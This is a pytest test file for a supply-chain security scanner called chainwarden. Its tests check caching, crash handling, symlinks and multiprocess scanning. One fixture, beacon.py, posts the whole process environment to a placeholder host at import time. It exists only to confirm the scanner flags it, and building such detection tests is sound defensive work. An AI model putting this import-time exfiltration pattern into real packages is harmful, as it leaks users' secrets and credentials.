from __future__ import annotations

import threading
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import ClassVar

import pytest

from chainwarden import engine
from chainwarden.analyzers.base import Analyzer, ArtifactView
from chainwarden.engine import Scanner, ScanOptions
from chainwarden.models import Finding, Location, Member, Severity


@dataclass(frozen=True, slots=True)
class LineFacts:
    lines: int
    has_marker: bool


class MarkerAnalyzer(Analyzer[LineFacts]):
    """Flags files containing MARKER; counts extract calls to observe caching."""

    name = "marker"
    version = "1"
    facts_type = LineFacts
    calls: ClassVar[list[int]] = []

    def select(self, member: Member, view: ArtifactView) -> bool:
        return member.path.endswith(".py")

    def extract(self, data: bytes) -> LineFacts:
        self.calls.append(len(data))
        if b"BOOM" in data:
            raise RuntimeError("analyzer bug")
        return LineFacts(data.count(b"\n"), b"MARKER" in data)

    def judge(self, view: ArtifactView, facts: Mapping[str, LineFacts]) -> Iterable[Finding]:
        for path, f in facts.items():
            if f.has_marker:
                yield Finding("CW000", Severity.HIGH, "marker", Location(view.label, path, 1))


def _tree(tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    (root / "pkg").mkdir(parents=True)
    (root / "pkg" / "a.py").write_text("x = 1\n")
    (root / "pkg" / "b.py").write_text("# MARKER\n")
    (root / "README").write_text("MARKER\n")
    return root


def test_scan_finds_and_caches(tmp_path: Path) -> None:
    root = _tree(tmp_path)
    options = ScanOptions(jobs=1, cache_dir=tmp_path / "cache")
    MarkerAnalyzer.calls.clear()
    with Scanner(options, analyzers=[MarkerAnalyzer()]) as scanner:
        report = scanner.scan([str(root)])
    assert not report.errors
    (result,) = report.results
    assert [f.location.path for f in result.findings] == ["pkg/b.py"]
    assert result.findings[0].analyzer == "marker"  # stamped by the engine
    assert len(MarkerAnalyzer.calls) == 2
    with Scanner(options, analyzers=[MarkerAnalyzer()]) as scanner:
        again = scanner.scan([str(root)])
    assert len(MarkerAnalyzer.calls) == 2  # warm cache: nothing re-extracted
    assert again.results[0].stats.cache_hits == 2
    assert again.results[0].findings == result.findings


def test_no_cache_extracts_every_time(tmp_path: Path) -> None:
    root = _tree(tmp_path)
    options = ScanOptions(jobs=1, use_cache=False, cache_dir=tmp_path / "cache")
    MarkerAnalyzer.calls.clear()
    for _ in range(2):
        with Scanner(options, analyzers=[MarkerAnalyzer()]) as scanner:
            scanner.scan([str(root)])
    assert len(MarkerAnalyzer.calls) == 4
    assert not (tmp_path / "cache").exists()


def test_analyzer_crash_becomes_a_blocking_finding(tmp_path: Path) -> None:
    root = _tree(tmp_path)
    (root / "pkg" / "c.py").write_text("BOOM\n")
    with Scanner(ScanOptions(jobs=1, use_cache=False), analyzers=[MarkerAnalyzer()]) as scanner:
        report = scanner.scan([str(root)])
    errors = [f for f in report.findings if f.rule_id == "CW000" and f.location.path == "pkg/c.py"]
    assert errors
    assert errors[0].severity is Severity.HIGH
    assert "RuntimeError: analyzer bug" in errors[0].message


def test_missing_target_is_a_report_error(tmp_path: Path) -> None:
    with Scanner(ScanOptions(jobs=1, use_cache=False), analyzers=[MarkerAnalyzer()]) as scanner:
        report = scanner.scan([str(tmp_path / "nope")])
    assert report.results == ()
    assert "nope" in report.errors[0]


def test_symlink_is_a_member_not_followed(tmp_path: Path) -> None:
    root = _tree(tmp_path)
    secret = tmp_path / "secret.py"
    secret.write_text("# MARKER outside the tree\n")
    (root / "pkg" / "link.py").symlink_to(secret)
    with Scanner(ScanOptions(jobs=1, use_cache=False), analyzers=[MarkerAnalyzer()]) as scanner:
        report = scanner.scan([str(root)])
    paths = {f.location.path for f in report.findings}
    assert "pkg/link.py" not in paths


def _package_with_payload(tmp_path: Path) -> Path:
    """A package whose `__init__` imports a module that posts the environment at import,
    plus enough filler modules that the scan is split into several worker batches."""
    root = tmp_path / "workers"
    pkg = root / "pkg"
    pkg.mkdir(parents=True)
    (pkg / "__init__.py").write_text("from . import beacon\n")
    (pkg / "beacon.py").write_text(
        "import os, urllib.request\n"
        "urllib.request.urlopen('http://collect.invalid/', data=repr(dict(os.environ)).encode())\n"
    )
    filler = "".join(f"def f{i}(x):\n    return x + {i}\n\n" for i in range(4000))
    for n in range(6):
        (pkg / f"filler{n}.py").write_text(filler)
    return root


@pytest.mark.parametrize("other_thread", [False, True], ids=["fork", "forkserver"])
def test_worker_pool_gives_the_same_findings_as_in_process(tmp_path: Path, other_thread: bool) -> None:
    root = _package_with_payload(tmp_path)
    inline = ScanOptions(jobs=1, use_cache=False)
    pooled = ScanOptions(jobs=2, use_cache=False, pool_min_bytes=0)
    with Scanner(inline) as scanner:
        expected = scanner.scan([str(root)])
    stop = threading.Event()
    helper = threading.Thread(target=stop.wait, daemon=True)
    if other_thread:  # a live thread makes forking unsafe: the fork server must be used
        helper.start()
    # threads left by other tests (a server still shutting down) also rule out fork
    expected_method = "fork" if threading.active_count() == 1 else "forkserver"
    try:
        with Scanner(pooled) as scanner:
            got = scanner.scan([str(root)])
            assert scanner._pool is not None  # the pool path really ran
            method = scanner._pool._mp_context.get_start_method()  # type: ignore[attr-defined]
    finally:
        stop.set()
    assert method == expected_method
    assert [(f.rule_id, f.location.path) for f in got.findings] == [
        (f.rule_id, f.location.path) for f in expected.findings
    ]
    assert any(f.location.path.endswith("beacon.py") and f.severity >= Severity.HIGH for f in got.findings)
    assert got.results[0].stats.analyzed_files == expected.results[0].stats.analyzed_files


def test_header_only_analyzers_read_in_process_not_in_workers(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Native files are identified by a few header bytes: they stay in this process (copying
    whole files to a worker cost more than the work), while Python files go to the workers."""
    root = _package_with_payload(tmp_path)
    (root / "pkg" / "_speedups.so").write_bytes(b"\x7fELF\x02\x01\x01" + b"\x00" * 2000)
    in_process: list[str] = []
    real = engine._extract_with

    def spy(analyzer: Analyzer[object], items: list[tuple[str, bytes]]) -> list[tuple[str, str | None, str]]:
        in_process.append(analyzer.name)
        return real(analyzer, items)

    monkeypatch.setattr(engine, "_extract_with", spy)
    with Scanner(ScanOptions(jobs=2, use_cache=False, pool_min_bytes=0)) as scanner:
        report = scanner.scan([str(root)])
        assert scanner._pool is not None
    assert "native" in in_process
    assert "python" not in in_process  # parsed by the workers
    assert any(f.location.path.endswith("_speedups.so") for f in report.findings)
